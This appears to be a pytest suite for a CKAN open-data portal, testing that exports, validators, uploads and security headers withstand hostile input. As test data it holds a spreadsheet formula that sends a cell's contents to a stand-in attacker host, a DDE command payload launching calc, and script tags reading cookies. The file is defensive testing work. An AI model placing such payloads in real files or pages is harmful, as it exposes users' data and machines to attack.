"""Hostile and messy input (issue 15): nothing breaks, nothing leaks, nothing runs.
Real PostgreSQL, Solr and CKAN; every output fetched as a user would."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import openpyxl
import pytest
from ckan.cli.cli import ckan

from ckanext.lutsk.domain import tabular, workdays
from ckanext.lutsk.oversight import stored as oversight_stored
from tests.lutsk_factories import body_org, dataset, staff

EVIL = '=HYPERLINK("https://evil.example/?x="&A2,"Open")'
T = workdays.kyiv_today()

pytestmark = pytest.mark.usefixtures("with_plugins")


def _dt(days_ago: int) -> str:
    return f"{(T - timedelta(days=days_ago)).isoformat()}T10:00:00"


@pytest.fixture(scope="module")
def world(fresh_portal):
    fin, ict = body_org("finance-budget"), body_org("ict")
    users = staff(ict=(ict, "member"), fin=(fin, "editor"))
    dataset(
        owner_org=fin["id"],
        name="evil-budget",
        title=EVIL,
        notes="@SUM(1+1)*cmd|' /C calc'!A0",
        annex835_row="L31",
        update_frequency="once a month",
        date_published=_dt(400),
        data_updated=_dt(100),
    )
    # The register, coverage and audit plan are served from stored computations: compute
    # them once, as the background job does after a change.
    oversight_stored.refresh()
    return {"users": users}


def _as(world, who):
    return {"Authorization": world["users"][who]["token"]}


def _csv_cells(data: bytes) -> list[str]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM first, for Excel"
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]


def _xlsx_cells(data: bytes) -> list:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def _assert_inert_csv(data: bytes, expect_evil: bool = True) -> None:
    cells = _csv_cells(data)
    assert not [c for c in cells if tabular.is_live_formula(c)]
    if expect_evil:
        assert "'" + EVIL in cells


def _assert_inert_xlsx(data: bytes, expect_evil: bool = True) -> None:
    cells = _xlsx_cells(data)
    assert not [c.coordinate for c in cells if c.data_type == "f" or tabular.is_live_formula(c.value)]
    if expect_evil:
        assert "'" + EVIL in {c.value for c in cells}


class TestFormulaInjection:
    """A title ``=HYPERLINK(...)`` comes out inert in every CSV and XLSX the portal writes."""

    def test_public_register(self, app, world):
        _assert_inert_csv(app.get("/lutsk/register.csv").get_data())
        _assert_inert_xlsx(app.get("/lutsk/register.xlsx").get_data())

    def test_passport_csv(self, app, world):
        _assert_inert_csv(app.get("/dataset/evil-budget/passport.csv").get_data())

    def test_deadlines_exports(self, app, world):
        headers = _as(world, "ict")
        _assert_inert_csv(app.get("/lutsk/deadlines/export.csv", headers=headers).get_data())
        _assert_inert_xlsx(app.get("/lutsk/deadlines/export.xlsx", headers=headers).get_data())

    def test_coverage_exports(self, app, world):
        # The matrix names datasets by their (safe) name; the file must still be the safe kind.
        headers = _as(world, "ict")
        _assert_inert_csv(app.get("/lutsk/coverage/export.csv", headers=headers).get_data(), False)
        _assert_inert_xlsx(app.get("/lutsk/coverage/export.xlsx", headers=headers).get_data(), False)

    def test_audit_plan_xlsx(self, app, world):
        year = T.year + 1
        data = app.get(f"/lutsk/audit-plan/export.xlsx?year={year}", headers=_as(world, "ict")).get_data()
        _assert_inert_xlsx(data)

    def test_cli_outputs(self, cli, world, tmp_path):
        out = tmp_path / "register.csv"
        ok = cli.invoke(ckan, ["lutsk", "register", "export", "--output", str(out)])
        assert ok.exit_code == 0, ok.output
        _assert_inert_csv(out.read_bytes())
        out = tmp_path / "register.xlsx"
        ok = cli.invoke(ckan, ["lutsk", "register", "export", "--format", "xlsx", "--output", str(out)])
        assert ok.exit_code == 0, ok.output
        _assert_inert_xlsx(out.read_bytes())
        for fmt in ("csv", "xlsx"):
            out = tmp_path / f"deadlines.{fmt}"
            ok = cli.invoke(ckan, ["lutsk", "deadlines", "report", "--format", fmt, "--output", str(out)])
            assert ok.exit_code == 0, ok.output
            (_assert_inert_csv if fmt == "csv" else _assert_inert_xlsx)(out.read_bytes())
        out = tmp_path / "coverage.csv"
        ok = cli.invoke(ckan, ["lutsk", "coverage", "export", "--format", "csv", "--output", str(out)])
        assert ok.exit_code == 0, ok.output
        _assert_inert_csv(out.read_bytes(), False)


def _api(app, world, action, data, who="fin", status=None):
    return app.post(
        f"/api/3/action/{action}",
        json=data,
        headers={**_as(world, who), "Content-Type": "application/json"},
        status=status,
    )


def _new(**overrides):
    from tests.lutsk_factories import passport

    return passport(**{"owner_org": "finance-budget", **overrides})


def _res(**fields):
    return [{"url": "https://lutskrada.gov.ua/opendata/x.csv", "format": "CSV", "name": "x", **fields}]


REFUSED = {
    "email-braces": ({"maintainer_email": "o{k}@example.org"}, "maintainer_email"),
    "url-pipe": ({"resources": _res(url="https://example.org/a|b")}, "resources"),
    "url-braces": ({"resources": _res(url="https://example.org/{x}")}, "resources"),
    "url-quote": ({"resources": _res(url='https://example.org/"x"')}, "resources"),
    "previous-url-brace": ({"previous_versions_url": "https://example.org/{x}"}, "previous_versions_url"),
    "nul-title": ({"title": "Бюджет\x00"}, "title"),
    "surrogate-notes": ({"notes": "Опис \ud800"}, "notes"),
    "nul-resource-name": ({"resources": _res(name="a\x00b")}, "resources"),
    "year-9999": ({"data_changed": "9999-12-31T23:59:59"}, "data_changed"),
    "year-1-offset": ({"date_published": "0001-01-01T00:00:00+05:00"}, "date_published"),
    "updated-9999": ({"data_updated": "9999-12-31T23:59:59"}, "data_updated"),
    "offset-23-59": ({"data_updated": "2025-01-01T00:00:00+23:59"}, "data_updated"),
    "private-zzz": ({"private": "zzz"}, "private"),
    "tags-number": ({"tag_string": 5}, "tag_string"),
    "tags-boolean": ({"tag_string": True}, "tag_string"),
    "owner-list": ({"owner_org": ["finance-budget"]}, "owner_org"),
    "owner-number": ({"owner_org": 5}, "owner_org"),
    "format-list": ({"resources": _res(format=["CSV"])}, "resources"),
    "format-number": ({"resources": _res(format=5)}, "resources"),
    "empty-url": ({"resources": _res(url="")}, "resources"),
    # found by the property test (HYPOTHESIS_PROFILE=deep): the uploader reads it first
    "url-list": ({"resources": _res(url=["https://example.org/a", "b"])}, "resources"),
    "url-number": ({"resources": _res(url=5)}, "resources"),
}


class TestRefusedInput:
    """Values that broke a page or the API: a 409 with a message, nothing written."""

    @pytest.mark.parametrize("case", sorted(REFUSED))
    def test_refused_with_409_and_nothing_written(self, app, world, case):
        overrides, field = REFUSED[case]
        name = f"refused-{case}"
        resp = _api(app, world, "package_create", _new(name=name, **overrides), status=409)
        error = resp.json["error"]
        assert error["__type"] == "Validation Error"
        assert field in error, error
        _api(app, world, "package_show", {"id": name}, status=404)

    def test_vertical_tab_from_word_is_stripped(self, app, world):
        resp = _api(
            app,
            world,
            "package_create",
            _new(
                name="word-paste",
                title="Бюджет\x0bгромади",
                notes="Рядок\x0bрядок\x01",
                maintainer="Ім'я\x0c",
            ),
        )
        result = resp.json["result"]
        assert result["title"] == "Бюджет\nгромади"
        assert result["notes"] == "Рядок\nрядок"
        assert result["maintainer"] == "Ім'я"

    def test_refused_value_is_echoed_truncated(self, app, world):
        big = "x" * 2_000_000
        resp = _api(app, world, "package_create", _new(name="big-echo", maintainer_email=big), status=409)
        assert len(resp.body) < 10_000
        resp = _api(
            app, world, "package_create", _new(name="big-echo", resources=_res(format=big)), status=409
        )
        assert len(resp.body) < 10_000

    def test_deadline_report_far_future_is_409(self, app, world):
        resp = _api(app, world, "lutsk_deadline_report", {"as_of": "9999-12-30"}, who="ict", status=409)
        assert "as_of" in resp.json["error"]


@pytest.fixture(scope="module")
def stored(world):
    """A dataset whose stored values predate the validators: written straight to the
    database (as an old version or a direct import would have left them), then indexed."""
    from ckan import model
    from ckan.lib.search import rebuild

    pkg_dict = dataset(
        owner_org=body_org_id("finance-budget"),
        name="stored-mess",
        date_published=_dt(30),
        resources=_res() + _res(name="second"),
    )
    pkg = model.Package.get(pkg_dict["id"])
    pkg.title = "Бюджет\x0bгромади\x01"
    pkg.notes = "Опис\x0bз Word\x0c"
    pkg.maintainer = "Олена\x0b"
    pkg.maintainer_email = "o{k}@example.org"
    first, second = sorted(pkg.resources, key=lambda r: r.position)
    first.url = 'https://example.org/a|b{c}"d'
    second.url = ""
    pkg.extras = {**pkg.extras, "purpose_of_collecting_information": "Мета\x0b"}
    model.Session.commit()
    rebuild(pkg.id)
    oversight_stored.refresh()
    return pkg_dict


def body_org_id(slug: str) -> str:
    from ckan import model

    return model.Group.get(slug).id


class TestStoredMessCannotBreakPages:
    """Every public writer copes with what is already stored."""

    @pytest.mark.parametrize(
        ("url", "fmt"),
        [
            ("/catalog.ttl", "turtle"),
            ("/catalog.rdf", "xml"),
            ("/catalog.jsonld", "json-ld"),
            ("/dataset/stored-mess.ttl", "turtle"),
            ("/dataset/stored-mess.rdf", "xml"),
            ("/dataset/stored-mess.jsonld", "json-ld"),
        ],
    )
    def test_rdf_is_served_and_parses(self, app, stored, url, fmt):
        import rdflib

        body = app.get(url).get_data()
        g = rdflib.Graph().parse(data=body, format=fmt)
        assert len(g) > 0

    def test_content_negotiation_on_the_home_page(self, app, stored):
        import rdflib

        resp = app.get("/", headers={"Accept": "text/turtle"})
        rdflib.Graph().parse(data=resp.get_data(), format="turtle")

    def test_the_dataset_passes_the_dcat_ap_shapes(self, app, stored):
        import rdflib

        from tests.dcat_support import shacl_results

        g = rdflib.Graph().parse(data=app.get("/dataset/stored-mess.ttl").get_data(), format="turtle")
        assert [r for r in shacl_results(g) if r["severity"] == "Violation"] == []

    def test_atom_feed_and_register(self, app, stored):
        from lxml import etree

        etree.fromstring(app.get("/lutsk/timeliness/updates.atom").get_data())
        _assert_inert_xlsx(app.get("/lutsk/register.xlsx").get_data(), False)
        _assert_inert_csv(app.get("/lutsk/register.csv").get_data(), False)
        app.get("/dataset/stored-mess")
        app.get("/dataset/stored-mess/passport.csv")
        app.get("/dataset/stored-mess/passport.json")


class TestUploads:
    """A body editor cannot make the portal's origin run their script."""

    def _upload(self, app, world, filename, body, status=None, **fields):
        pkg = dataset(owner_org=body_org_id("finance-budget"))
        return pkg, app.post(
            "/api/3/action/resource_create",
            data={
                "package_id": pkg["id"],
                "format": "CSV",
                "name": filename,
                **fields,
                "upload": (io.BytesIO(body), filename),
            },
            headers=_as(world, "fin"),
            status=status,
        )

    @pytest.mark.parametrize("filename", ["data.html", "picture.svg", "code.js", "page.xhtml"])
    def test_active_files_are_refused_in_ukrainian(self, app, world, filename):
        pkg, resp = self._upload(app, world, filename, b"<script>alert(document.cookie)</script>", status=409)
        assert "не можна завантажити" in resp.json["error"]["url"][0]
        assert len(_api(app, world, "package_show", {"id": pkg["id"]}).json["result"]["resources"]) == 1

    def test_the_form_says_so_in_ukrainian(self, app, world):
        page = app.get("/dataset/evil-budget/resource/new", headers=_as(world, "fin")).body
        assert "Файли HTML, SVG, JavaScript і XHTML не приймаються" in page

    def test_a_declared_html_mimetype_is_refused(self, app, world):
        _pkg, resp = self._upload(app, world, "data.csv", b"a,b\n", status=409, mimetype="text/html")
        assert "url" in resp.json["error"]

    def test_stored_files_are_attachments_that_never_run(self, app, world):
        pkg, resp = self._upload(app, world, "data.csv", b"<html><script>alert(1)</script></html>")
        res = resp.json["result"]
        # Whatever the stored media type says, the file is a download that is neither
        # sniffed nor rendered.
        from ckan import model

        model.Resource.get(res["id"]).mimetype = "text/html"
        model.Session.commit()
        got = app.get(f"/dataset/{pkg['id']}/resource/{res['id']}/download/data.csv")
        assert got.headers["Content-Disposition"].startswith("attachment;")
        assert got.headers["X-Content-Type-Options"] == "nosniff"
        assert got.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
        from ckanext.lutsk.domain import web_safety
        from tests.ckan_compat import CKAN_2_12

        served = got.headers["Content-Type"].split(";")[0].strip()
        assert served not in web_safety.ACTIVE_MIMETYPES
        # CKAN 2.11 serves the stored media type (text/html here), which ours replaces;
        # 2.12's file storage serves the type of the file name.
        assert served == ("text/csv" if CKAN_2_12 else "application/octet-stream")


class TestHeaders:
    @pytest.mark.parametrize(
        "url", ["/", "/dataset/", "/dataset/evil-budget", "/lutsk/timeliness", "/api/3/action/status_show"]
    )
    def test_every_page_carries_the_security_headers(self, app, world, url):
        headers = app.get(url).headers
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert headers["Referrer-Policy"] == "strict-origin-when-cross-origin"
        assert headers["X-Frame-Options"] == "SAMEORIGIN"
        csp = headers["Content-Security-Policy"]
        script_src = csp.split("script-src", 1)[1].split(";")[0]
        assert "'self'" in script_src and "unsafe-inline" not in script_src
        assert "frame-ancestors 'self'" in csp and "object-src 'none'" in csp

    def test_no_inline_script_in_the_pages(self, app, world):
        """The CSP allows scripts from the portal only: no page may rely on inline script."""
        import re

        pages = ["/", "/dataset/", "/dataset/evil-budget", "/lutsk/timeliness", "/organization/"]
        forms = ["/dataset/new", "/dataset/evil-budget/resource/new", "/dataset/edit/evil-budget"]
        for url, headers in [*((u, {}) for u in pages), *((u, _as(world, "fin")) for u in forms)]:
            page = app.get(url, headers=headers).body
            for tag in re.findall(r"<script\b[^>]*>", page):
                assert "src=" in tag or "application/ld+json" in tag or "application/json" in tag, (url, tag)
            assert not re.search(r"\son(click|load|change|submit|error)\s*=", page), url

    @pytest.mark.parametrize("url", ["/", "/dataset/evil-budget"])
    def test_content_negotiation_varies_on_accept(self, app, world, url):
        resp = app.get(url, headers={"Accept": "text/turtle"})
        assert "Accept" in resp.headers.get("Vary", "")
        assert "Accept" in app.get(url).headers.get("Vary", "")


class TestCatalogueQueries:
    def test_a_query_with_spaces_and_cyrillic_pages(self, app, world):
        import rdflib

        resp = app.get("/catalog.ttl", params={"q": "бюджет громади"})
        rdflib.Graph().parse(data=resp.get_data(), format="turtle")

    def test_a_broken_solr_query_is_400_with_a_message(self, app, world):
        resp = app.get("/catalog.ttl?fq=(", status=400)
        assert "запит" in resp.body.lower()


class TestPassportPdf:
    @pytest.mark.parametrize(
        "notes",
        [
            "Дуже довгий опис набору даних. " * 125,  # ≈ 4000 characters, as the schema allows
            "\n".join(f"- пункт **{i}** з [посиланням](https://example.org/{i})" for i in range(100)),
            "x" * 4000,  # one word the width of many pages
        ],
        ids=["long", "markdown-lines", "one-word"],
    )
    def test_long_descriptions_break_across_pages(self, app, world, notes):
        pkg = dataset(owner_org=body_org_id("finance-budget"), notes=notes[:4000])
        resp = app.get(f"/dataset/{pkg['name']}/passport.pdf")
        assert resp.get_data().startswith(b"%PDF")
